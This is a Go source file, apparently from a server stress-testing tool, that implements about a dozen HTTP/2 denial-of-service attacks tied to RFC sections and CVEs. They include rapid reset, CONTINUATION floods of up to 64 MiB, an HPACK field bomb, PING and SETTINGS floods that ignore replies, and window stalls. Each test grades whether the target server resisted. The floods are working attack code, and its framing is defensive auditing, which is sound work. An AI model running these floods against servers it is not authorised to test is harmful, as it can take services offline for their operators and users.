package attack

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Attacks are those on the transport of RFC 8441. What they cost, others pay:
// one is judged by whether these are still served, and by what the process spends,
// unless the server ends the connection.
var http2Attacks = []*Attack{
	{"http2/rapid-reset", "requests that are taken back at once", "serve others meanwhile, or end the connections", "RFC 9113, 10.5 (CVE-2023-44487)",
		func(t *trial) finding {
			return h2flood(t, func(h *h2link) { h.writer.WriteRSTStream(h.request(false, h.block()), http2.ErrCodeCancel) })
		}},
	{"http2/reset-by-error", "requests that the server has to reset, by window updates of nothing", "serve others meanwhile, or end the connections", "RFC 9113, 6.9; 10.5 (CVE-2025-8671)",
		func(t *trial) finding {
			return h2flood(t, func(h *h2link) {
				h.writer.WriteRawFrame(http2.FrameWindowUpdate, 0, h.request(false, h.block()), []byte{0, 0, 0, 0})
			})
		}},
	{"http2/continuation", "a request whose fields go on in CONTINUATION frames, up to 64 MiB", "end the connection at a limit", "RFC 9113, 10.5.1 (CVE-2023-45288)", continuationFlood},
	{"http2/empty-continuation", "the same in empty CONTINUATION frames", "end the connection, or hold nothing of them", "RFC 9113, 10.5", emptyContinuations},
	{"http2/fields-bomb", "requests whose fields have 16 MiB when they are decoded, in a few KiB", "refuse them", "RFC 9113, 10.5.1; RFC 7541, 7.3", fieldsBomb},
	{"http2/settings", "SETTINGS whose acknowledgements are not received", "end the connection, or stop receiving", "RFC 9113, 10.5 (CVE-2019-9515)",
		func(t *trial) finding { return h2deaf(t, func(h *h2link) { h.writer.WriteSettings() }) }},
	{"http2/ping", "PINGs whose answers are not received", "end the connection, or stop receiving", "RFC 9113, 10.5 (CVE-2019-9512)",
		func(t *trial) finding { return h2deaf(t, func(h *h2link) { h.writer.WritePing(false, [8]byte{}) }) }},
	{"http2/empty-data", "a request with content in empty DATA frames, without end", "serve others meanwhile, or end the connections", "RFC 9113, 10.5 (CVE-2019-9518)", emptyData},
	{"http2/window-stall", "as many requests as are let in, whose answers may have no byte", "hold no more than usual, and serve others", "RFC 9113, 10.5 (CVE-2019-9517)", windowStall},
	{"http2/silent", "the preface, and then nothing in the middle of a frame", "serve others meanwhile", "RFC 9113, 10.5", halfFrame},
	{"http2/window-overflow", "a window of more than 2^31-1 bytes", "end the connection", "RFC 9113, 6.9.1",
		func(t *trial) finding {
			return h2refused(t, func(h *h2link) {
				h.writer.WriteWindowUpdate(0, 1<<31-1)
				h.writer.WriteWindowUpdate(0, 1<<31-1)
			})
		}},
	{"http2/huge-frame", "a frame of 2^24-1 bytes, which is larger than was agreed", "end the connection", "RFC 9113, 4.2",
		func(t *trial) finding {
			return h2refused(t, func(h *h2link) {
				h.out.Write([]byte{0xff, 0xff, 0xff, byte(http2.FrameData), 0, 0, 0, 0, 1})
			})
		}},
	{"http2/connection-fields", "an extended CONNECT with the fields of HTTP/1.1's handshake", "refuse it: they are not allowed", "RFC 9113, 8.2.2; RFC 8441, 5", connectionFields},
}

// h2 opens a connection for an attack.
func h2(t *trial, f func(h *h2link) finding, settings ...http2.Setting) finding {
	h, err := t.http2(settings...)
	if errors.Is(err, errNoHTTP2) {
		return finding{NotOffered, err.Error()}
	}
	if err != nil {
		return untried(err)
	}
	return f(h)
}

// h2flood writes frames as fast as they are taken, on all connections.
func h2flood(t *trial, write func(h *h2link)) finding {
	return t.each(func(int) finding {
		return h2(t, func(h *h2link) finding {
			h.receive()
			n := 0
			for over := t.over(); time.Now().Before(over); {
				for ; h.out.Len() < 16<<10; n++ {
					write(h)
				}
				if err := h.flush(); err != nil {
					how, _ := h.await(time.Second)
					return finding{Resisted, fmt.Sprintf("%s, after %s at most", how, short(float64(n)))}
				}
			}
			if how, ok := h.ended(); ok {
				return finding{Resisted, fmt.Sprintf("%s, after %s at most", how, short(float64(n)))}
			}
			return finding{Resisted, fmt.Sprintf("it took %s", short(float64(n)))}
		})
	})
}

// h2deaf writes what has to be answered, and receives nothing.
func h2deaf(t *trial, write func(h *h2link)) finding {
	return h2(t, func(h *h2link) finding {
		h.tcp.SetReadBuffer(room)
		var part bytes.Buffer
		for h.out.Len() < 64<<10 {
			write(h)
		}
		part.Write(h.out.Bytes())
		total := int64(0)
		for total < 128<<20 {
			h.SetWriteDeadline(time.Now().Add(t.o.quiet()))
			n, err := h.Write(part.Bytes())
			total += int64(n)
			t.sent.Add(int64(n))
			if ended(err) {
				return finding{Resisted, fmt.Sprintf("it ended the connection after %.1f MiB at most", float64(total)/(1<<20))}
			}
			if stuck(err) {
				return finding{Resisted, fmt.Sprintf("it took %.1f MiB, and then no more", float64(total)/(1<<20))}
			}
		}
		return finding{Weak, fmt.Sprintf("it took %d MiB, and has to keep the answers", total>>20)}
	})
}

// h2refused writes what has to end the connection.
func h2refused(t *trial, write func(h *h2link)) finding {
	return h2(t, func(h *h2link) finding {
		h.receive()
		write(h)
		if h.flush() != nil {
			return finding{Resisted, "it ended the connection"}
		}
		how, ok := h.await(t.o.answer())
		if !ok {
			return finding{Weak, "it kept the connection"}
		}
		return finding{Resisted, how}
	})
}

func continuationFlood(t *trial) finding {
	return h2(t, func(h *h2link) finding {
		h.receive()
		h.writer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block()})
		h.fields.Reset()
		// What is sensitive is in no table (RFC 7541, 7.1.3).
		h.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 24000), Sensitive: true})
		return h.pourContinuations(bytes.Clone(h.fields.Bytes()), 64<<20)
	})
}

// pourContinuations sends fragments of a request's fields until so many bytes have
// gone.
func (h *h2link) pourContinuations(fragment []byte, most int) finding {
	sent, frames := 0, 0
	for sent < most {
		h.writer.WriteContinuation(1, false, fragment)
		frames++
		sent += len(fragment) + 9
		if h.out.Len() < 32<<10 && sent < most {
			continue
		}
		if err := h.flush(); err != nil {
			how, _ := h.await(time.Second)
			if stuck(err) {
				how = "it took no more"
			}
			return finding{Resisted, fmt.Sprintf("%s, after %.1f MiB at most", how, float64(sent)/(1<<20))}
		}
		if how, ok := h.ended(); ok {
			return finding{Resisted, fmt.Sprintf("%s, after %.1f MiB at most", how, float64(sent)/(1<<20))}
		}
	}
	if how, ok := h.await(h.t.o.answer()); ok {
		return finding{Resisted, how}
	}
	return finding{Weak, fmt.Sprintf("it took all %d frames of %d MiB", frames, sent>>20)}
}

func emptyContinuations(t *trial) finding {
	return h2(t, func(h *h2link) finding {
		h.receive()
		h.writer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block()})
		f := h.pourContinuations(nil, 16<<20)
		if f.verdict == Weak {
			f = finding{Lenient, f.seen}
		}
		return f
	})
}

// fieldsBomb puts a field of 4 KiB into the table, and names it 4,096 times in each
// request.
func fieldsBomb(t *trial) finding {
	return h2(t, func(h *h2link) finding {
		h.receive()
		h.request(false, h.block(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("a", 3900)}))
		block := h.block()
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 4096)...) // the newest of the dynamic table
		for range 32 {
			h.request(false, block)
		}
		if h.flush() != nil {
			return finding{Resisted, "it ended the connection"}
		}
		requests := int(h.stream / 2)
		for until := t.soon(); time.Now().Before(until); t.wait(10 * time.Millisecond) {
			if how, ok := h.ended(); ok {
				return finding{Resisted, how}
			}
			h.mu.Lock()
			n := h.statuses + h.refused
			h.mu.Unlock()
			if n >= requests {
				break
			}
		}
		how, _ := h.ended()
		return finding{Resisted, fmt.Sprintf("%s, of %d requests", how, requests)}
	})
}

func emptyData(t *trial) finding {
	return t.each(func(int) finding {
		return h2(t, func(h *h2link) finding {
			h.receive()
			id := h.request(true, h.block())
			n := 0
			for over := t.over(); time.Now().Before(over); {
				for ; h.out.Len() < 16<<10; n++ {
					h.writer.WriteData(id, false, nil)
				}
				if h.flush() != nil {
					how, _ := h.await(time.Second)
					return finding{Resisted, how}
				}
			}
			how, _ := h.ended()
			return finding{Resisted, fmt.Sprintf("it took %s frames: %s", short(float64(n)), how)}
		})
	})
}

func windowStall(t *trial) finding {
	return t.each(func(int) finding {
		return h2(t, func(h *h2link) finding {
			h.receive()
			n := min(int(h.settings[http2.SettingMaxConcurrentStreams]), 1000)
			if n == 0 {
				n = 1000
			}
			for range n {
				h.request(false, h.block())
			}
			if h.flush() != nil {
				return finding{Resisted, "it ended the connection"}
			}
			t.wait(t.o.Duration)
			how, _ := h.ended()
			return finding{Resisted, fmt.Sprintf("%d requests: %s", n, how)}
		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	})
}

func halfFrame(t *trial) finding {
	f := t.each(func(int) finding {
		return h2(t, func(h *h2link) finding {
			h.request(false, h.block())
			h.out.Truncate(h.out.Len() - 1)
			h.flush()
			return finding{Resisted, "it waits for the rest"}
		})
	})
	t.wait(t.o.Duration)
	return f
}

func connectionFields(t *trial) finding {
	return h2(t, func(h *h2link) finding {
		h.receive()
		block := h.blockOf("CONNECT", hpack.HeaderField{Name: ":protocol", Value: "websocket"},
			hpack.HeaderField{Name: "connection", Value: "Upgrade"}, hpack.HeaderField{Name: "upgrade", Value: "websocket"},
			hpack.HeaderField{Name: "sec-websocket-key", Value: "dGhlIHNhbXBsZSBub25jZQ=="}, hpack.HeaderField{Name: "sec-websocket-version", Value: "13"})
		// A server that offers no extended CONNECT has to refuse it for that.
		h.request(true, block)
		if h.flush() != nil {
			return finding{Resisted, "it ended the connection"}
		}
		for until := t.soon(); time.Now().Before(until); t.wait(10 * time.Millisecond) {
			h.mu.Lock()
			refused, status := h.refused, h.status
			h.mu.Unlock()
			if how, ok := h.ended(); ok {
				return finding{Resisted, how}
			}
			if refused > 0 {
				return finding{Resisted, "it reset the stream"}
			}
			if status == "200" {
				return finding{Weak, "it accepted the handshake"}
			}
			if status != "" {
				return finding{Resisted, "answered with " + status}
			}
		}
		return finding{Weak, fmt.Sprintf("no answer in %v", t.o.answer())}
	})
}
